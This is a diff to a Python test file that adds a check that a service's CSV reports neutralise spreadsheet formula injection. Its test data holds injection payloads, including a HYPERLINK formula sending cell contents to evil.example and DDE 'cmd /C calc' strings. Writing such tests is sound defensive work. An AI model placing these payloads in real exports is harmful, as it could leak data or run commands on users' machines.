@@ -2,7 +2,7 @@
 gives a report whose every figure the test computes itself from what it did; the CSV says the
 same; a publishable report (whole calendar months or quarters only) rounds every count to a
 multiple of 5 and hides 1 to 4, so no differencing of published cells gives a small count back;
-and erasure changes nothing in it while leaving no personal
+CSV cells never start a formula; and erasure changes nothing in it while leaving no personal
 value behind."""
 
 from __future__ import annotations
@@ -22,7 +22,7 @@ from service.jobs import sweep_once
 from service.usecases import tx
 from service.usecases.purge import purge
 from tests.support.clock import ManualClock
-from tests.support.world import World, new_key, unique
+from tests.support.world import World, new_key, site_body, unique
 
 DAY = timedelta(days=1)
 WINDOW = 30 * DAY
@@ -868,3 +868,54 @@ async def test_a_publishable_report_covers_a_whole_calendar_month_or_quarter(
         # The same window unpublished is fine.
         reply = await world.api.get(path, key=world.admin, params={"start": start, "end": end})
         assert reply.status == 200, reply.body
+
+
+# --- CSV formula injection (issue 14 item 7) ---------------------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+async def test_no_csv_cell_starts_a_spreadsheet_formula(
+    world: World, db: Pool, clock: ManualClock
+) -> None:
+    """Sites named, and in areas named, as a spreadsheet would run them: `=`, `+`, `-` and `@`
+    through the API; a leading tab or carriage return the API refuses, so those two are
+    written straight into the database (as an older row or a hand fix could be)."""
+    areas = {
+        "=": f'=HYPERLINK("http://evil.example/"&A1,"{unique("x")}")',
+        "+": f"+1+cmd|' /C calc'!{unique('A')}",
+        "-": f"-2+3+cmd|' /C calc'!{unique('A')}",
+        "@": f"@SUM(1+1)*cmd|' /C calc'!{unique('A')}",
+        "\t": f"\t=1+1 {unique('tab')}",
+        "\r": f"\r=1+1 {unique('cr')}",
+    }
+    for lead, area in areas.items():
+        if lead in "\t\r":
+            refused = await world.api.post(
+                "/v1/sites", site_body(area=area, name=area), key=world.provider
+            )
+            assert refused.status == 400 and "area" in refused.field_names(), refused.body
+            site = await world.site(area=unique("Leeds"))
+            async with db.acquire() as conn:
+                await conn.execute("UPDATE site SET area = $1 WHERE id = $2", area, site["id"])
+        else:
+            site = await world.site(area=area, name=area)
+        await world.bed(site["id"])
+    clock.advance(hours=1)
+    start = datetime(clock.now().year, clock.now().month, 1, tzinfo=UTC)
+    window = {"start": start, "end": add_months(start, 1), "provider": world.provider_id}
+    for group_by in ("area", "provider"):
+        for publishable in (False, True):
+            reply = await world.api.get(
+                "/v1/reports/summary",
+                key=world.admin,
+                params={**window, "group_by": group_by, "publishable": publishable},
+                headers={"Accept": "text/csv"},
+            )
+            assert reply.status == 200, reply.body
+            rows = list(csv.reader(io.StringIO(reply.raw.decode("utf-8"), newline="")))
+            cells = [cell for row in rows for cell in row]
+            assert not [c for c in cells if c.startswith(FORMULA_STARTS)], (group_by, cells)
+            if group_by == "area":
+                keys = {row[0] for row in rows[1:]}
+                assert {f"'{area}" for area in areas.values()} <= keys, keys
